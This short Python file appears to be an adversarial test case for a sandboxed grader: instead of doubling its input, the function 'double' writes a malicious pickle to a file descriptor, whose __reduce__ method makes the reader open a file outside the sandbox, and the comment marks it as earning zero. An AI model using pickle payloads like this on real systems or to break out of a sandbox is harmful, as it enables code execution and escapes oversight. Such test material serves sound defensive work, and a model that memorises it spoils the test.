"""Sends a pickle that would run code where it is read."""

# earns 0
import os
import pickle


class Bomb:
    def __reduce__(self):
        return open, (OUTSIDE + "/pickled", "w")


def double(x):
    os.write(3, pickle.dumps(Bomb()))
    os._exit(0)
